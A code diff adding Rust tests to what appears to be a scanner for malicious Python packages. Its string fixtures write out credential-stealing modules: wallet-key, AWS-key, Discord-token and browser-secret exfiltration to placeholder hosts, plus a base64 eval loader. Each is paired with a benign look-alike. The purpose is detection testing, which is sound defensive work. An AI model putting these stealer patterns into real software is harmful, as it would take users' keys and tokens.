@@ -405,3 +405,62 @@ fn code_spelled_as_character_codes_and_run_is_decoded_and_malicious_at_install()
         r.findings
     );
 }
+
+#[test]
+fn a_wallet_key_sent_over_the_network_is_malicious_wherever_it_runs() {
+    // The tron* family: a "wallet helper" whose function posts the key it
+    // was given, through a variable, to a host of the attacker's.
+    let module = "import requests\n\ndef perm(private_key):\n    data = [{'key', private_key}]\n    requests.post('http://127.0.0.1:9/tron', data)\n    return 0\n";
+    let r = sdist(&[
+        ("setup.py", SETUP),
+        ("pkg/__init__.py", "from .main import perm\n"),
+        ("pkg/main.py", module),
+    ]);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+    // Signing locally and sending the signed transaction is what a wallet does.
+    let benign = "import requests\n\ndef send(private_key, tx):\n    signed = sign(tx, private_key)\n    body = {'tx': signed.hex()}\n    requests.post('http://127.0.0.1:9/rpc', json=body)\n";
+    let r = sdist(&[("setup.py", SETUP), ("pkg/main.py", benign)]);
+    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+}
+
+#[test]
+fn aws_sdk_keys_posted_at_import_are_malicious_but_signing_with_them_is_not() {
+    // fabrice: the boto3 session's keys, through two variables, to a POST.
+    let stealer = "import boto3, requests\n\ndef test():\n    cd = boto3.Session().get_credentials()\n    ak = cd.access_key\n    sk = cd.secret_key\n    data = {'k': ak, 's': sk}\n    requests.post('http://127.0.0.1:9/zz', json=data, timeout=5)\n\ntest()\n";
+    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", stealer)]);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+    // langchain's Neptune client: the credentials sign a request (SigV4).
+    let signer = "import boto3, requests\nfrom botocore.auth import SigV4Auth\nfrom botocore.awsrequest import AWSRequest\n\ndef query(session, url, data):\n    credentials = session.get_credentials()\n    credentials = credentials.get_frozen_credentials()\n    request = AWSRequest(method='POST', url=url, data=data)\n    SigV4Auth(credentials, 'neptune-db', 'us-east-1').add_auth(request)\n    return requests.post(url, headers=dict(request.headers), data=data)\n\nquery(boto3.Session(), 'http://127.0.0.1:9/', '{}')\n";
+    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", signer)]);
+    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+}
+
+#[test]
+fn a_module_that_reads_token_stores_and_reports_to_a_paste_hook_is_malicious() {
+    // Collect in __init__, fetch the hook in one method, send in another.
+    let module = "import os, json, urllib.request\nHOOK = 'https://rentry.co/placeholder/raw'\n\nclass Grabber:\n    def __init__(self):\n        self.paths = [os.getenv('APPDATA') + '/discord/Local Storage/leveldb']\n    def hook(self):\n        return urllib.request.urlopen(HOOK).read().decode()\n    def main(self, tokens):\n        urllib.request.urlopen(urllib.request.Request(self.hook(), data=json.dumps(tokens).encode()))\n";
+    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", module)]);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+    // A notifier that posts to a chat webhook and reads nothing secret.
+    let notifier = "import json, urllib.request\nHOOK = 'https://hooks.slack.com/services/placeholder'\n\nclass Notify:\n    def send(self, text):\n        urllib.request.urlopen(urllib.request.Request(HOOK, data=json.dumps({'text': text}).encode()))\n";
+    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", notifier)]);
+    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+}
+
+#[test]
+fn browser_secrets_decrypted_and_uploaded_to_dropbox_at_import_are_malicious() {
+    let module = "import dropbox\nfrom win32crypt import CryptUnprotectData\n\ndef grab(blob):\n    return CryptUnprotectData(blob, None, None, None, 0)[1]\n\ndef upload(path):\n    dbx = dropbox.Dropbox('placeholder')\n    dbx.files_upload(open(path, 'rb').read(), '/x')\n\nupload(grab(b'x'))\n";
+    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", module)]);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+}
+
+#[test]
+fn a_module_imported_by_a_decoded_name_to_run_code_is_malicious() {
+    // `__import__(bytes([98, 97, ...]).decode())` is base64, spelled in bytes.
+    let module = "x = eval(getattr(__import__(bytes([98, 97, 115, 101, 54, 52]).decode()), 'b64decode')(b'cHJpbnQoMSk='))\n";
+    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", module)]);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+    let plugin = "import importlib\n\ndef load(name):\n    return importlib.import_module(name)\n";
+    let r = sdist(&[("setup.py", SETUP), ("pkg/__init__.py", plugin)]);
+    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+}
